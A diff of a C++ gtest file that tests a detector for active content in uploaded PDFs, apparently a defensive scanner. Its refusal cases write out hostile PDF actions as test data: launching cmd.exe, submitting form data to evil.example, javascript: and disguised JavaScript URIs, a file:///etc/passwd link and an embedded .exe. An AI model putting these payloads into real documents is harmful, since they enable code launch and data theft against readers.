@@ -3,7 +3,13 @@
 #include <gtest/gtest.h>
 
 #include <cstdint>
+#include <cstdlib>
+#include <filesystem>
+#include <fstream>
+#include <iterator>
+#include <ostream>
 #include <string>
+#include <string_view>
 #include <thread>
 #include <utility>
 #include <vector>
@@ -415,19 +421,185 @@ TEST(FileTypes, WorksFromManyThreads) {
 namespace ruamkit::core {
 namespace {
 
-TEST(PdfActiveContent, ActionsThatRunOrFetchAreFound) {
-  EXPECT_TRUE(
-      pdf_has_active_content("1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"));
-  EXPECT_TRUE(pdf_has_active_content("<< /S /Launch /F (cmd.exe) >>"));
-  EXPECT_TRUE(pdf_has_active_content("<</Type/EmbeddedFile/Length 3>>"));
-  EXPECT_TRUE(pdf_has_active_content("<< /AcroForm << /XFA 5 0 R >> >>"));
-  EXPECT_TRUE(pdf_has_active_content("trailer /JS"));
+// A PDF file of `objects` (numbered from 1; 1 is the catalog) with a correct
+// cross-reference table.
+std::string pdf_file(const std::vector<std::string>& objects) {
+  std::string out = "%PDF-1.7\n%\xE2\xE3\xCF\xD3\n";
+  std::vector<std::size_t> offsets;
+  for (std::size_t i = 0; i < objects.size(); ++i) {
+    offsets.push_back(out.size());
+    out += std::to_string(i + 1) + " 0 obj\n" + objects[i] + "\nendobj\n";
+  }
+  const auto xref = out.size();
+  out += "xref\n0 " + std::to_string(objects.size() + 1) + "\n0000000000 65535 f \n";
+  for (const auto offset : offsets) {
+    std::string number = std::to_string(offset);
+    out += std::string(10 - number.size(), '0') + number + " 00000 n \n";
+  }
+  out += "trailer\n<< /Size " + std::to_string(objects.size() + 1) +
+         " /Root 1 0 R >>\nstartxref\n" + std::to_string(xref) + "\n%%EOF\n";
+  return out;
 }
 
-TEST(PdfActiveContent, OrdinaryDocumentsAndLookAlikeNamesAreNot) {
-  EXPECT_FALSE(pdf_has_active_content("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >>"));
-  EXPECT_FALSE(pdf_has_active_content("<< /JSON (not a script) /Launcher 1 /XFAX 2 >>"));
-  EXPECT_FALSE(pdf_has_active_content("(JavaScript in a string, not a name)"));
+// A one-page PDF: `catalog` and `page` are more entries of the catalog (1)
+// and the page (3); `more` are objects 4, 5, ...
+std::string one_page(std::string_view catalog = "", std::string_view page = "",
+                     const std::vector<std::string>& more = {}) {
+  std::vector<std::string> objects = {
+      "<< /Type /Catalog /Pages 2 0 R " + std::string(catalog) + " >>",
+      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + std::string(page) + " >>",
+  };
+  objects.insert(objects.end(), more.begin(), more.end());
+  return pdf_file(objects);
+}
+
+// A link annotation on the page, running `action`.
+std::string link(std::string_view action) {
+  return one_page(
+      "", "/Annots [4 0 R]",
+      {"<< /Type /Annot /Subtype /Link /Rect [10 10 100 30] /A " + std::string(action) + " >>"});
+}
+
+// tests/data/pdf (see its README).
+std::string pdf_fixture(std::string_view name) {
+  const char* share = std::getenv("RUAMKIT_SHARE_DIR");
+#ifdef RUAMKIT_DEFAULT_SHARE_DIR
+  const std::filesystem::path root = share ? share : RUAMKIT_DEFAULT_SHARE_DIR;
+#else
+  const std::filesystem::path root = share ? share : ".";
+#endif
+  const auto path = root / "tests" / "data" / "pdf" / name;
+  std::ifstream in(path, std::ios::binary);
+  if (!in) ADD_FAILURE() << "missing fixture " << path;
+  return {std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
+}
+
+struct PdfCase {
+  const char* name;
+  std::string pdf;
+};
+
+void PrintTo(const PdfCase& c, std::ostream* os) { *os << c.name; }
+
+class SafePdfs : public ::testing::TestWithParam<PdfCase> {};
+class ActivePdfs : public ::testing::TestWithParam<PdfCase> {};
+
+TEST_P(SafePdfs, AreAccepted) {
+  ASSERT_TRUE(detect_document_type(GetParam().pdf)) << "libmagic sees a PDF";
+  EXPECT_FALSE(pdf_has_active_content(GetParam().pdf));
+}
+
+TEST_P(ActivePdfs, AreRefused) { EXPECT_TRUE(pdf_has_active_content(GetParam().pdf)); }
+
+// What the integration tests upload: no cross-reference table, which qpdf
+// rebuilds (as viewers do).
+const std::string kPdfWithoutXref =
+    "%PDF-1.4\n"
+    "1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
+    "2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
+    "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj\n"
+    "% \xE0\xB8\xA3\xE0\xB9\x88\xE0\xB8\xB2\xE0\xB8\x87\n"
+    "trailer << /Root 1 0 R >>\n"
+    "%%EOF\n";
+
+INSTANTIATE_TEST_SUITE_P(
+    PdfActiveContent, SafePdfs,
+    ::testing::Values(
+        PdfCase{"Plain", one_page()}, PdfCase{"WithoutCrossReferenceTable", kPdfWithoutXref},
+        PdfCase{"WebLink", link("<< /S /URI /URI (https://www.example.go.th/hearing?id=7) >>")},
+        PdfCase{"MailLink", link("<< /S /URI /URI (mailto:office@example.go.th) >>")},
+        PdfCase{"LinkToAPageAboutJavaScript",
+                link("<< /S /URI /URI (https://developer.mozilla.org/en-US/docs/Web/JavaScript) "
+                     ">>")},
+        PdfCase{"GoToAPage", link("<< /S /GoTo /D [3 0 R /Fit] >>")},
+        PdfCase{"OpenAtAPageAsLibreOfficeWrites", one_page("/OpenAction [3 0 R /XYZ null null 0]")},
+        PdfCase{"OpenWithAGoToAction", one_page("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>")},
+        PdfCase{"OpenAtANamedDestination", one_page("/OpenAction (chapter1)")},
+        PdfCase{"LookAlikeNames", one_page("/JSON (not a script) /Launcher 1 /XFAX 2 /AAA 3")},
+        PdfCase{"NamesInStrings",
+                one_page("/Lang (th) /Info (/JavaScript /JS /Launch /OpenAction in a string)")},
+        PdfCase{"FillInFormWithoutActions",
+                one_page("/AcroForm << /Fields [4 0 R] >>", "/Annots [4 0 R]",
+                         {"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [10 10 100 "
+                          "30] /P 3 0 R >>"})},
+        PdfCase{"ObjectStreamsFromQpdf", pdf_fixture("objstm_plain.pdf")},
+        PdfCase{"EncryptedWithoutUserPassword", pdf_fixture("encrypted_no_user_password.pdf")},
+        PdfCase{"ObjectStreamWithinTheInflateBudget", pdf_fixture("objstm_within_budget.pdf")}),
+    [](const auto& info) { return std::string(info.param.name); });
+
+INSTANTIATE_TEST_SUITE_P(
+    PdfActiveContent, ActivePdfs,
+    ::testing::Values(
+        PdfCase{"OpenActionJavaScript",
+                one_page("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")},
+        PdfCase{"EscapedNamesInALink", link("<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")},
+        PdfCase{"EscapedNamesOnOpening",
+                one_page("/OpenAction 4 0 R", "",
+                         {"<< /#53 /#4A#61#76#61Script /JS 5 0 R >>",
+                          "<< /Length 12 >>\nstream\napp.alert(1)\nendstream"})},
+        PdfCase{"DocumentLevelJavaScript",
+                one_page("/Names << /JavaScript << /Names [(init) 4 0 R] >> >>", "",
+                         {"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"})},
+        PdfCase{"JavaScriptInsideACompressedObjectStream", pdf_fixture("objstm_javascript.pdf")},
+        PdfCase{"AdditionalActionsOnAPage", one_page("", "/AA << /O << /S /GoTo /D [3 0 R] >> >>")},
+        PdfCase{"Launch", link("<< /S /Launch /F (cmd.exe) >>")},
+        PdfCase{"SubmitForm", link("<< /S /SubmitForm /F (https://evil.example/collect) >>")},
+        PdfCase{"ImportData", link("<< /S /ImportData /F (data.fdf) >>")},
+        PdfCase{"RemoteGoTo", link("<< /S /GoToR /F (https://evil.example/x.pdf) /D [0 /Fit] >>")},
+        PdfCase{"EmbeddedGoTo", link("<< /S /GoToE /T << /R /C /N (a.pdf) >> >>")},
+        PdfCase{"OpenActionUri",
+                one_page("/OpenAction << /S /URI /URI (https://evil.example/) >>")},
+        PdfCase{"OpenActionPrint", one_page("/OpenAction << /S /Named /N /Print >>")},
+        PdfCase{"OpenActionGoToWithNext",
+                one_page("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>", "",
+                         {"<< /S /URI /URI (https://evil.example/) >>"})},
+        PdfCase{"JavaScriptUri", link("<< /S /URI /URI (javascript:app.alert\\(1\\)) >>")},
+        PdfCase{"JavaScriptUriInDisguise", link("<< /S /URI /URI ( JaVa\tScRiPt:alert\\(1\\)) >>")},
+        PdfCase{"FileUri", link("<< /S /URI /URI (file:///etc/passwd) >>")},
+        PdfCase{"EmbeddedFiles",
+                one_page("/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>", "",
+                         {"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
+                          "<< /Length 2 >>\nstream\nMZ\nendstream"})},
+        PdfCase{"FileAttachmentAnnotation",
+                one_page("", "/Annots [4 0 R]",
+                         {"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (a.exe) "
+                          ">>"})},
+        PdfCase{"XfaForm", one_page("/AcroForm << /Fields [] /XFA 4 0 R >>", "",
+                                    {"<< /Length 7 >>\nstream\n<xdp/>\nendstream"})},
+        PdfCase{"RichMedia", one_page("", "/Annots [4 0 R]",
+                                      {"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"})},
+        PdfCase{"NeedsAPassword", pdf_fixture("encrypted_user_password.pdf")},
+        PdfCase{"ObjectStreamBomb", pdf_fixture("objstm_bomb.pdf")}, PdfCase{"Empty", ""},
+        PdfCase{"NotAPdf", "hello, world\n"},
+        PdfCase{"Garbage", "%PDF-1.7\n\x01\x02\x03 garbage \xFF\xFE\n%%EOF\n"},
+        PdfCase{"Truncated", one_page().substr(0, 40)},
+        PdfCase{"RootIsNotADictionary",
+                "%PDF-1.4\n1 0 obj 42 endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"}),
+    [](const auto& info) { return std::string(info.param.name); });
+
+TEST(PdfActiveContent, FragmentsAreNotDocuments) {
+  // The byte scan this replaced looked at fragments; qpdf must read a file.
+  EXPECT_TRUE(
+      pdf_has_active_content("1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"));
+  EXPECT_TRUE(pdf_has_active_content("trailer /JS"));
+  EXPECT_TRUE(pdf_has_active_content("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >>"));
+}
+
+TEST(PdfActiveContent, WorksFromManyThreads) {
+  const auto safe = one_page();
+  const auto active = pdf_fixture("objstm_javascript.pdf");
+  std::vector<std::thread> threads;
+  std::vector<int> ok(4, 0);
+  for (int t = 0; t < 4; ++t) {
+    threads.emplace_back([&, t] {
+      for (int i = 0; i < 25; ++i) {
+        ok[t] += !pdf_has_active_content(safe) && pdf_has_active_content(active);
+      }
+    });
+  }
+  for (auto& thread : threads) thread.join();
+  for (int t = 0; t < 4; ++t) EXPECT_EQ(ok[t], 25);
 }
 
 }  // namespace
